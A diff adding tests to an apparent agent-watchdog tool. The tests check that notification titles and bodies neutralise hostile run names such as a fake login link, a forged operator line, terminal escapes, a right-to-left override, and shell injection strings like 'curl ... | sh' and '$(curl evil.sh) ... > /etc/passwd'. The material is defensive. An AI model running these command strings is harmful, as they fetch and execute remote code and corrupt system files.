@@ -5,6 +5,7 @@ one function, from numbers and names alone (no store, no socket: the unit kind's
 from __future__ import annotations
 
 import datetime as dt
+import re
 from collections import Counter
 from typing import Any
 
@@ -87,3 +88,60 @@ def test_an_outcome_keeps_its_key_and_run() -> None:
     # A wording argument may be called run_id too: the outcome's own run is positional.
     u = Outcome.of(Say.UNREADABLE_LOST, "lost:y", "other", **samples()[Say.UNREADABLE_LOST])
     assert u.run_id == "other" and u.numbers["run_id"] == RID
+
+
+# Names a hostile writer chooses (issue 32 item 8): a link, a command, a forged line, a flood,
+# terminal escapes, a right-to-left override.
+HOSTILE = [
+    "https://evil.example.com/login",
+    "curl http://x.example.com/p | sh",
+    "bot\nStopped by operator: nothing to do",
+    "evil" + "x" * 10_000,
+    "\x1b[2J\x1b[31mevil-red\x1b[0m",
+    "evil\u202egnp.exe",
+    "$(curl evil.sh) `id`; evil && evil > /etc/passwd",
+]
+MARKED = re.compile(r"«[^«»\n]*»")
+
+
+def _outside_fields(text: str) -> str:
+    return MARKED.sub("«»", text)
+
+
+@pytest.mark.parametrize("name", HOSTILE, ids=["url", "curl-sh", "newline", "10kB", "ansi", "rtl", "shell"])
+@pytest.mark.parametrize("say", list(Say))
+def test_writer_text_never_in_a_title_and_only_marked_in_a_body(say: Say, name: str) -> None:
+    title, body = word(Outcome.of(say, f"{say}:x", name, **samples(name, rid=name)[say]))
+    for part in ("evil", "curl", "Stopped by operator", "http", "\x1b", "\u202e", "|", "`", "$("):
+        assert part not in title, (say, title)
+    for part in ("evil", "curl", "Stopped by operator", "http", "\x1b", "\u202e", "$("):
+        assert part not in _outside_fields(body), (say, body)
+    assert "a run" in title or "run " not in title  # a run id not of the generated form is not named
+    for field in MARKED.findall(body):
+        assert len(field) <= 302 and "://" not in field and "| sh" not in field and "\x1b" not in field
+        assert "\u202e" not in field
+    assert not any(line.startswith("Stopped by operator") for line in body.splitlines())
+
+
+def test_a_generated_run_id_names_the_run_in_the_title_and_the_command() -> None:
+    title, body = word(Outcome.of(Say.STOP, "stop:x", RID, **samples()[Say.STOP]))
+    assert title == "agent-watchdog: stopped run 1a2b3c4d — max_tool_calls"
+    assert "agent «support-bot»" in body and body.endswith("agent-watchdog show 1a2b3c4d")
+
+
+def test_a_stop_that_cannot_be_signalled_says_so_in_its_title() -> None:
+    """Issue 36 #4: a span-only run (no process the daemon may signal) is asked to stop; its title
+    says so, never "stopped"; so does the ladder's hold for evidence that is not the run's own."""
+    s = dict(samples()[Say.STOP], action="cooperative stop requested (not signalled: spans cannot prove their sender)")
+    title, _ = word(Outcome.of(Say.STOP, "stop:x", RID, **s))
+    assert title == "agent-watchdog: run 1a2b3c4d asked to stop; not signalled — max_tool_calls"
+    e = dict(samples()[Say.ESCALATION], outcome="not signalled: the evidence is not the run's own", failed=True)
+    title, _ = word(Outcome.of(Say.ESCALATION, "notown:x", RID, **e))
+    assert title == "agent-watchdog: run 1a2b3c4d asked to stop; not signalled — max_tool_calls"
+
+
+def test_a_pause_title_names_the_resume_command() -> None:
+    title, body = word(Outcome.of(Say.PAUSE, "pause:x", RID, **samples()[Say.PAUSE]))
+    assert title.startswith("agent-watchdog: paused run 1a2b3c4d — max_cost: to resume, "
+                            "agent-watchdog resume 1a2b3c4d --add-eur ")
+    assert "to continue: agent-watchdog resume 1a2b3c4d --add-eur" in body
